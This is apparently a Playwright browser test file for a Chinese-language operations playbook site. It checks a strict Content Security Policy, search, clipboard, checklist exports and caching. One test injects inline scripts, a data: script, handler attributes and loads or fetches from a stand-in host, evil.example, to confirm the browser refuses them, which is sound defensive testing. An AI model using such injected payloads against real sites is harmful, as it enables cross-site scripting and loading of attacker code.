"""Everything works under the headers of deploy/nginx.conf, and nothing else does."""

import re
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml
from playwright.sync_api import expect

from tests.browser import runs
from tests.browser.conftest import Visits
from tests.browser.settled import go
from tests.browser.test_board import MONDAY, NOW, section
from tests.publishing.conftest import Policy
from tests.search.conftest import SearchBox

PERMITTED: dict[str, Any] = {"permissions": ["clipboard-read", "clipboard-write"]}


def test_the_policy_is_strict(policy: Policy) -> None:
    allowed = policy.content
    assert allowed["default-src"] == ["'none'"]
    assert allowed["script-src"] == allowed["style-src"] == ["'self'"]
    assert [allowed[name] for name in ("base-uri", "form-action", "frame-ancestors")] == [["'none'"]] * 3
    assert {source for sources in allowed.values() for source in sources} == {"'none'", "'self'", "data:", "blob:"}
    assert [name for name, sources in allowed.items() if "data:" in sources] == ["img-src"]
    assert [name for name, sources in allowed.items() if "blob:" in sources] == ["worker-src"]


def test_no_page_has_a_script_or_a_style_of_its_own(site: Path) -> None:
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 100
    own = re.compile(r"<script(?![^>]*\s(?:src=|type=\"application/json\"))|<style|<[a-z][^>]*\s(?:style|on[a-z]+)=")
    for page in pages:
        found = own.search(page.read_text(encoding="utf-8"))
        assert found is None, f"{page.relative_to(site)}: {found[0]}"


def test_what_is_slipped_into_a_page_is_refused(visit: Visits) -> None:
    page = visit("/")
    page.evaluate(
        """() => {
            const put = (name, set) => document.body.append(Object.assign(document.createElement(name), set));
            put("script", { textContent: "document.title = 'taken over'" });
            put("script", { src: "https://evil.example/x.js" });
            put("script", { src: "data:text/javascript,document.title='taken over'" });
            put("style", { textContent: "body { display: none }" });
            put("img", { src: "https://evil.example/x.png" });
            put("iframe", { src: "/roles/" });
            document.body.insertAdjacentHTML("beforeend", "<p style='color: red' onclick='document.title = 1'>x</p>");
            document.querySelector("p[onclick]").click();
            fetch("https://evil.example/").catch(() => {});
        }"""
    )
    refused = r"refused by ([a-z-]+): (\S+)"
    expected = {
        ("script-src-elem", "inline"), ("script-src-elem", "https://evil.example/x.js"), ("script-src-elem", "data"),
        ("style-src-elem", "inline"), ("img-src", "https://evil.example/x.png"), ("frame-src", f"{visit.site}/roles/"),
        ("style-src-attr", "inline"), ("script-src-attr", "inline"), ("connect-src", "https://evil.example/"),
    }  # fmt: skip
    said: set[tuple[str, ...]] = set()
    for _ in range(50):
        said = {match.groups() for line in visit.complaints if (match := re.search(refused, line))}
        if said == expected:
            break
        page.wait_for_timeout(100)
    assert said == expected
    assert len(visit.complaints) >= len(expected), "a violation fails a test"
    visit.complaints.clear()
    assert page.title() == "运营手册"


def test_a_reader_reads_searches_and_copies(visit: Visits) -> None:
    page = visit("/", **PERMITTED)
    page.get_by_title("换成深色").click()
    go(page, f"{visit.site}/duties/")
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    box = SearchBox(page)
    box.type("异常 认领")
    box.follow("异常响应与认领")
    expect(page.locator("details.pb-task[open]", has=page.locator("#anomaly-response"))).to_be_visible()
    page.locator(".pb-card", has=page.locator("#morning-check")).locator("> p > .headerlink").click()
    expect(page.get_by_role("status").filter(has_text="地址已复制")).to_be_visible()
    copied = page.evaluate("navigator.clipboard.readText()")
    assert copied.startswith(f"{visit.site}/duties/data-monitoring/")
    assert copied.endswith("#morning-check")

    go(page, f"{visit.site}/go/data-monitoring.one-owner/")
    page.wait_for_url(f"{visit.site}/duties/data-monitoring/#one-owner")
    expect(page.locator("#one-owner")).to_be_in_viewport()

    go(page, f"{visit.site}/changes/")
    page.get_by_label("从哪天起").fill("2099-01-01")
    expect(page.locator("[data-changes-filter] output")).to_have_text("没有这样的变更")


@pytest.mark.filterwarnings("ignore:Workbook contains no default style:UserWarning")
def test_a_manager_runs_a_checklist(visit: Visits, tmp_path: Path) -> None:
    page = runs.open_list(visit, **PERMITTED)
    the = runs.the_list(page)
    # Another run, with so many long notes that the library packs the spreadsheet in a worker.
    long = runs.finished_run(the, 1)
    long["v"]["old"] = [
        {**long["v"]["items"][0], "v": f"{number:08x}", "note": f"{number:04}" + "字" * 1996} for number in range(60)
    ]
    runs.put(page, {f"run:{the['id']}:long": long})
    runs.again(page)
    runs.start(page)
    runs.answer_all(page)
    runs.answer(page, 4, "fail")
    runs.item(page, 4).locator("textarea").fill("没有链接")
    runs.finish(page)
    expect(page.locator(".pb-run-body > .pb-verdict")).to_contain_text("分")
    page.get_by_role("button", name="复制交接链接").click()
    expect(page.get_by_label("交接链接")).to_have_value(re.compile(re.escape(f"{visit.site}{runs.WEEKLY}#run=")))
    assert len(page.pdf()) > 20_000, "printed"
    page.get_by_role("button", name="收起").click()
    expect(page.locator(".pb-runs > li")).to_have_count(2)
    page.get_by_role("button", name="打开").last.click()
    path = runs.download(page, page.get_by_role("button", name="Excel 表").click, tmp_path)
    rows = openpyxl.load_workbook(path).worksheets[0].iter_rows(values_only=True)
    assert sum(len(str(cell)) == 2000 for row in rows for cell in row) == 60


def test_the_pages_to_work_with(visit: Visits) -> None:
    page = visit("/404.html")
    page.clock.set_fixed_time(NOW)
    go(page, f"{visit.site}/roles/control-ops/")
    line = section(page, "今天").locator("li", has_text="09:30")
    line.get_by_role("checkbox").check()
    expect(line.locator(".pb-state")).to_have_text(f"✓ {MONDAY:%m-%d} 10:00")
    widths = page.locator(".pb-bar rect").evaluate_all("(all) => all.map((one) => one.getBoundingClientRect().width)")
    assert len(widths) > 4
    assert widths[0] > 2 * widths[-1] > 0

    go(page, f"{visit.site}/scorecards/control-ops/")
    page.get_by_label(re.compile("^实际")).first.fill("5")
    expect(page.locator(".pb-score")).to_contain_text("已存在这台设备上。")

    go(page, f"{visit.site}/scorecards/")
    page.get_by_label("周期").select_option(index=1)
    expect(page.locator("[data-goals-filter] output")).to_contain_text(re.compile(r"个目标里的 \d+ 个"))

    go(page, f"{visit.site}/metrics/#csat")
    card = page.locator(".pb-metric:has(#csat)")
    card.get_by_text("代入自己的数").click()
    card.get_by_label("4–5 分回答数").fill("45")
    expect(card.locator("output")).not_to_have_text("88 %")

    go(page, f"{visit.site}/roles/compare/?roles=general-ops,control-ops")
    expect(page.locator("[data-compare] output")).to_have_text("通用运营、运营中控")
    row = page.locator(".pb-compared").first
    filled = "(all) => all.map((bar) => Math.round((100 * bar.getBoundingClientRect().width) / bar.parentElement.clientWidth))"
    shares = [int(found) for found in re.findall(r"(\d+)%", row.locator("summary").inner_text())]
    assert row.locator("summary .pb-amount i").evaluate_all(filled) == shares

    go(page, f"{visit.site}/raci/")
    page.get_by_label("字母").select_option("A")
    expect(page.locator("[data-raci-filter] output")).to_contain_text("项任务里的")


def test_the_site_works_below_a_path(visit_below: Visits, tmp_path: Path) -> None:
    visit, base = visit_below, visit_below.site
    page = visit("/nowhere/at/all/", status=404, **PERMITTED)
    assert page.evaluate("getComputedStyle(document.querySelector('.md-header')).position") == "sticky", "404 has style"
    box = SearchBox(page)
    box.type("异常 认领")
    box.follow("异常响应与认领")
    page.wait_for_url(re.compile(re.escape(f"{base}/duties/data-watch/") + r"\?h=.*#anomaly-response"))
    page.locator("#one-owner .headerlink").click()
    expect(page.get_by_role("status").filter(has_text="地址已复制")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()").startswith(f"{base}/duties/data-watch/")
    page.get_by_title("换成深色").click()

    go(page, f"{base}/duties/data-monitoring/#morning-check")
    page.wait_for_url(f"{base}/duties/data-watch/#first-check")
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    go(page, f"{base}/go/data-monitoring.one-owner/")
    page.wait_for_url(f"{base}/duties/data-watch/#one-owner")

    go(page, f"{base}{runs.WEEKLY}")
    runs.ready(page)
    link = page.locator(".pb-take a[download]").first
    path = runs.download(page, link.click, tmp_path)
    address = str(openpyxl.load_workbook(path).worksheets[0]["A3"].value)
    assert "https://ops.example.com/team/playbook/checklists/monitoring-weekly/" in address
    runs.start(page)
    runs.answer(page, 1)
    runs.saved(page)
    page.locator(".md-header__button.md-logo").first.click()
    page.wait_for_url(f"{base}/")


@pytest.mark.parametrize(
    ("path", "kept"),
    [
        ("/", "no-cache"),
        ("/duties/", "no-cache"),
        ("/assets/images/favicon.png", "no-cache"),
        ("/search/entries.js", "no-cache"),
        ("/api/v1/index.json", "no-cache"),
        ("/downloads/raci.xlsx", "no-cache"),
    ],
)
def test_what_changes_is_asked_for_each_time(policy: Policy, path: str, kept: str) -> None:
    assert policy.headers(path)["Cache-Control"] == kept


def test_every_script_and_style_that_pages_load_is_kept_for_good(
    policy: Policy, playbook_site: Path, project: Path
) -> None:
    config = yaml.load((project / "mkdocs.yml").read_text(encoding="utf-8"), yaml.BaseLoader)
    page = (playbook_site / "duties/data-monitoring/index.html").read_text(encoding="utf-8")
    loaded = re.findall(r'(?:src|href)="[./]*/(assets/[^"]+\.(?:js|css))"', page)
    own = config["extra_css"] + config["extra_javascript"]
    assert len(loaded) == 6 + len(own), "the theme's and our own"
    for path in loaded:
        assert (playbook_site / path).is_file()
        assert "immutable" in policy.headers(f"/{path}")["Cache-Control"], path
